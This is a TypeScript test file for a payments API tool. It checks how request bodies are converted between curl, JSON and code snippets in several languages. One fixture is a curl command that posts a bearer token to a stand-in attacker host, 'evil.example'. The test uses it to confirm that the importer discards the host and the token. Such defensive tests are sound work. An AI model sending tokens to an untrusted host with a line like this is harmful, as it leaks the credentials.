import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { KlaviError } from '../../../../core/failure.ts'
import type { Environment } from '../../../../core/model/environment.ts'
import { exportPayload } from '../../../../core/payments/export.ts'
import { importPayload } from '../../../../core/payments/import.ts'

const environment: Environment = {
  id: 'sandbox',
  kind: 'sandbox',
  name: 'Sandbox',
  origin: 'https://api-testing.klavi.ai',
  prefix: '/payment/customer/v1',
  dialect: 'g1',
}

describe('curl → payload → curl', () => {
  it('goes round, byte for byte, for any payload', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.constantFrom(undefined, 2), (value, indent) => {
        const text = JSON.stringify(value, null, indent)
        const line = exportPayload(environment, text, 'curl').text
        const imported = importPayload(line)
        expect(imported).toMatchObject({ kind: 'curl', shell: 'posix', text })
        expect(exportPayload(environment, imported.text, 'curl').text).toBe(line)
      }),
      { numRuns: 300 },
    )
  })
})

describe('importPayload', () => {
  it('keeps of a line its body only, and says what it left out', () => {
    const { text, notes, dialect } = importPayload(
      `curl https://evil.example/x -H 'Authorization: Bearer abcdef' -d '{"participantId":"p","externalId":"e"}'`,
    )
    expect(text).toBe('{"participantId":"p","externalId":"e"}')
    expect(dialect).toBe('g1')
    expect(notes.join(' ')).toContain('evil.example')
    expect(JSON.stringify([text, notes])).not.toContain('abcdef')
  })

  it('takes JSON as it is', () => {
    expect(importPayload('\uFEFF{ "a" : 1 }')).toEqual({
      kind: 'json',
      text: '{ "a" : 1 }',
      notes: [],
    })
  })

  it.each(['', 'hello', '{"a":', 'curl https://h', 'curl https://h -d @body.json'])(
    'refuses %j with a reason',
    (text) => {
      expect(() => importPayload(text)).toThrow(KlaviError)
    },
  )
})

describe('exportPayload', () => {
  const body = `{\n  "name": "José's \\"shop\\" \${x} 100%",\n  "emoji": "💸"\n}`

  it.each(['curl', 'fetch', 'python', 'java', 'csharp'] as const)(
    'writes %s with the token as a named variable, and the whole body in it',
    (form) => {
      const { text, variables } = exportPayload(environment, body, form)
      expect(variables).toEqual(['KLAVI_ACCESS_TOKEN'])
      expect(text).toContain('KLAVI_ACCESS_TOKEN')
      expect(text).toContain('https://api-testing.klavi.ai/payment/customer/v1/payments')
      if (form === 'curl') return
      // Every language reads these literals alike: put together they are the body.
      const literals = [...text.matchAll(/^ +("(?:[^"\\]|\\.)*")(?: \+)?;?,?$/gm)]
        .map((one) => JSON.parse(one[1] ?? '') as string)
        .filter((one) => !one.startsWith('https:'))
      expect(literals.join('')).toBe(body)
    },
  )

  it('runs in JavaScript as it is written', async () => {
    const { text } = exportPayload(environment, body, 'fetch')
    const script = text.replace(': Response', '')
    const sent: { url: string; options: { body: string; headers: Record<string, string> } }[] = []
    const run = new Function(
      'fetch',
      'console',
      'process',
      `return (async () => { ${script} })()`,
    ) as (...given: unknown[]) => Promise<void>
    await run(
      async (url: string, options: never) => {
        sent.push({ url, options })
        return { status: 200, text: async () => '' }
      },
      { log: () => undefined },
      { env: { KLAVI_ACCESS_TOKEN: 't' } },
    )
    expect(sent[0]?.options.body).toBe(body)
    expect(sent[0]?.options.headers['Authorization']).toBe('Bearer t')
  })
})
